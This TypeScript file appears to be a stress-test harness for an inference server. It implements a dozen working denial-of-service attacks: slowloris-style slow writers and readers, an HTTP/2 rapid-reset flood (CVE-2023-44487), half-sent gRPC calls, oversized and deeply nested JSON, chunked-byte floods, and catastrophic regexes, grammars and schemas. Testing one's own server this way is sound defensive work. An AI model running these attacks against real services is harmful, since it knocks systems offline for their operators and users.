import { connect as connectHttp2, constants } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { NodeClient } from '../client.ts';

/** A node without TLS. */
export type Target = {
  readonly http: string;
  readonly grpc: string;
  /** A name that it answers to. */
  readonly model: string;
};

/** Goes on until the signal fires; `count` is told how each try ended. */
type Attack = (target: Target, signal: AbortSignal, count: (end: string) => void) => Promise<void>;

const nothing = (): void => undefined;
const generatePath = '/adaptlet.inference.v1.Inference/Generate';
const asJson = { 'content-type': 'application/json' };

const pause = async (ms: number, signal: AbortSignal): Promise<void> => {
  await sleep(ms, undefined, { signal }).catch(nothing);
};
const ended = async (signal: AbortSignal): Promise<void> => {
  if (!signal.aborted)
    await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
};

/** `width` loops beside each other, each of which tries again until the signal fires. What fails is tried again after a moment. */
const again = async (
  width: number,
  signal: AbortSignal,
  one: (index: number) => Promise<void>,
): Promise<void> => {
  const loop = async (index: number): Promise<void> => {
    while (!signal.aborted) {
      try {
        await one(index);
      } catch {
        await pause(10, signal);
      }
    }
  };
  await Promise.all(Array.from({ length: width }, (_, index) => loop(index)));
};

const openTo = (address: string, count: (end: string) => void): Socket => {
  const { hostname, port } = new URL(address);
  const socket = connect(Number(port), hostname);
  return socket.on('error', nothing).on('close', () => count('closed'));
};
const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    if (socket.destroyed) resolve();
    else socket.once('close', () => resolve());
  });

/** Connections that are kept without a request, on both ports. */
const idle =
  (connections: number): Attack =>
  async ({ http, grpc }, signal, count) => {
    const sockets = Array.from({ length: connections }, (_, index) => {
      const socket = openTo(index % 2 === 0 ? http : `http://${grpc}`, count).resume();
      if (index % 4 === 0) socket.write('GET /livez HTTP/1.1\r\nhost: x\r\n\r\n');
      return socket;
    });
    await ended(signal);
    for (const socket of sockets) socket.destroy();
  };

/** Requests whose headers, or whose bodies, come a byte at a time. */
const slowWriters: Attack = async ({ http }, signal, count) => {
  const head = 'POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n';
  await again(200, signal, async (index) => {
    const socket = openTo(http, count).resume();
    const isBody = index % 2 === 0;
    socket.write(isBody ? `${head}content-length: ${4 << 20}\r\n\r\n` : head);
    if (isBody) socket.write(Buffer.alloc(256 << 10, 0x20));
    while (!signal.aborted && !socket.destroyed) {
      socket.write(isBody ? ' ' : 'x');
      await pause(200, signal);
    }
    socket.destroy();
  });
};

/** Calls of which all but the last bytes of the message come, and calls that are whole and never said to be all. */
const halfMessages: Attack = async ({ grpc }, signal, count) => {
  await again(4, signal, async () => {
    const session = connectHttp2(`http://${grpc}`);
    session.on('error', nothing);
    for (let i = 0; !signal.aborted && !session.destroyed; i += 1) {
      if (i % 50 === 49) await pause(250, signal);
      const stream = session.request({
        ':method': 'POST',
        ':path': generatePath,
        'content-type': 'application/grpc',
        ...(i % 3 === 1 ? { 'grpc-timeout': '900m' } : {}),
        te: 'trailers',
      });
      stream
        .on('error', nothing)
        .on('close', () => count('ended'))
        .resume();
      const head = Buffer.alloc(5);
      head.writeUInt32BE(i % 3 === 0 ? 128 << 10 : 4_000_000, 1);
      stream.write(Buffer.concat([head, Buffer.alloc(128 << 10)]));
    }
    session.destroy();
  });
};

/** Streams, and answers as a whole, that nobody reads. */
const slowReaders: Attack = async ({ http, model }, signal, count) => {
  const body = JSON.stringify({ model, prompt: 'moon:', stream: true, max_tokens: 200 });
  const stream = `POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
  const metrics = 'GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(1000);
  await again(100, signal, async (index) => {
    const socket = openTo(http, count);
    socket.pause();
    socket.write(index % 10 === 0 ? metrics : stream);
    await Promise.race([closed(socket), pause(2000, signal)]);
    socket.destroy();
  });
};

/** Streams of HTTP/2 that are opened and reset at once (CVE-2023-44487). */
const rapidReset: Attack = async ({ grpc }, signal, count) => {
  await again(4, signal, async () => {
    const session = connectHttp2(`http://${grpc}`);
    session.on('error', nothing).on('close', () => count('session closed'));
    try {
      while (!signal.aborted && !session.destroyed && !session.closed) {
        for (let i = 0; i < 100; i += 1) {
          const stream = session.request({
            ':method': 'POST',
            ':path': generatePath,
            'content-type': 'application/grpc',
            te: 'trailers',
          });
          stream.on('error', nothing);
          stream.close(constants.NGHTTP2_CANCEL);
          count('reset');
        }
        await pause(1, signal);
      }
    } finally {
      session.destroy();
    }
  });
};

const post = async (http: string, body: string, signal: AbortSignal, headers = {}): Promise<string> => {
  const response = await fetch(`${http}/v1/completions`, {
    method: 'POST',
    headers: { ...asJson, ...headers },
    body,
    signal,
  });
  await response.text();
  return String(response.status);
};

/** Bodies and headers over their limits. */
const oversize: Attack = async ({ http, model }, signal, count) => {
  const large = JSON.stringify({ model, prompt: 'x'.repeat(5 << 20) });
  const headers = Object.fromEntries(Array.from({ length: 7 }, (_, i) => [`x-pad-${i}`, 'x'.repeat(8000)]));
  await again(8, signal, async (index) => {
    count(index % 2 === 0 ? await post(http, large, signal) : await post(http, '{}', signal, headers));
  });
};

/** JSON that is nested without an end, by itself and where a schema may be. */
const deepJson: Attack = async ({ http, model }, signal, count) => {
  const nested = `${'{"a":'.repeat(400_000)}1${'}'.repeat(400_000)}`;
  const asked = `{"model":${JSON.stringify(model)},"prompt":"moon:","max_tokens":1,`;
  const deep = [
    '['.repeat(1_000_000),
    nested,
    `${asked}"structured_outputs":{"json":${nested}}}`,
    `${asked}"response_format":{"type":"json_schema","json_schema":{"name":"x","schema":${nested}}}}`,
    `${asked}"logit_bias":${nested}}`,
    `${asked}"stop":[${'1,'.repeat(2_000_000)}1]}`,
  ];
  await again(deep.length, signal, async (index) => count(await post(http, deep[index] ?? '', signal)));
};

/** Bodies of which each byte comes as a chunk of its own, as fast as they are taken. */
const crumbs: Attack = async ({ http }, signal, count) => {
  const head =
    'POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n';
  const some = '1\r\n \r\n'.repeat(10_000);
  const stopped = ended(signal);
  await again(8, signal, async () => {
    const socket = openTo(http, count).resume();
    const over = closed(socket);
    socket.write(head);
    while (!signal.aborted && !socket.destroyed) {
      if (socket.write(some)) await pause(0, signal);
      else await Promise.race([over, new Promise((resolve) => socket.once('drain', resolve)), stopped]);
    }
    socket.destroy();
  });
};

/** Streams whose reader leaves after some milliseconds. */
const cancelled: Attack = async ({ http, model }, signal, count) => {
  const body = JSON.stringify({ model, prompt: 'moon:', stream: true, max_tokens: 200 });
  let turn = 0;
  await again(16, signal, async () => {
    turn += 1;
    const leaves = AbortSignal.any([signal, AbortSignal.timeout(turn % 20)]);
    count(await post(http, body, leaves).catch(() => 'left'));
  });
};

/** Calls of gRPC whose client leaves after some milliseconds, and keeps its connection. */
const cancelledCalls: Attack = async ({ grpc, model }, signal, count) => {
  const client = new NodeClient(grpc, grpc);
  let turn = 0;
  await again(16, signal, async () => {
    turn += 1;
    const leaves = AbortSignal.any([signal, AbortSignal.timeout(turn % 20)]);
    const call = client.ask({ model, prompt: 'moon:', maxTokens: 200, signal: leaves });
    count(
      await call.then(
        () => 'answered',
        () => 'left',
      ),
    );
  });
  client.close();
};

const bomb = (index: number): object => {
  const n = 100 + (index % 900);
  const kinds = [
    { regex: `(a?){${n}}a{${n}}` },
    { regex: `((a{1,${n}}){1,${n}}){1,${n}}` },
    { regex: `(.*a.{${n}}|.*b.{${n}})` },
    { grammar: `start: ${Array.from({ length: n }, (_, i) => `"${i}x"`).join(' | ')}\n` },
    {
      // It doubles with each step.
      json: Array.from({ length: 8 }).reduce<object>(
        (inner, _, depth) => ({
          anyOf: [inner, { type: 'object', properties: { [`p${index}-${depth}`]: inner } }],
        }),
        { type: 'string' },
      ),
    },
  ];
  return kinds[index % kinds.length] ?? {};
};

/** Patterns, grammars and schemas that are made to explode, each another one. */
const structures: Attack = async ({ http, model }, signal, count) => {
  let index = 0;
  await again(8, signal, async () => {
    index += 1;
    const body = { model, prompt: 'moon:', max_tokens: 8, structured_outputs: bomb(index) };
    count(await post(http, JSON.stringify(body), signal));
  });
};

/** Whose pattern is made to be slow: what the attack `patterns` asks for, in a namespace of its own. */
export const slowRoute = `apiVersion: adaptlet.io/v1alpha1
kind: AdapterRoute
metadata: {name: slow, namespace: loud}
spec:
  model: slow
  rules:
    - {name: slow, matches: [{promptRegex: '[ab]*a[ab]{900}[cd]'}], targets: [{base: true}]}
    - {name: rest, targets: [{base: true}]}
---
`;

const patterns: Attack = async ({ http }, signal, count) => {
  const body = JSON.stringify({ model: 'slow', prompt: 'a'.repeat(2048), max_tokens: 1 });
  const headers = { 'x-adaptlet-namespace': 'loud' };
  await again(8, signal, async () => count(await post(http, body, signal, headers)));
};

/** By what hostile or broken clients do. */
export const attacks = {
  idle: idle(1000),
  slowWriters,
  halfMessages,
  slowReaders,
  rapidReset,
  oversize,
  deepJson,
  crumbs,
  cancelled,
  cancelledCalls,
  structures,
  patterns,
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
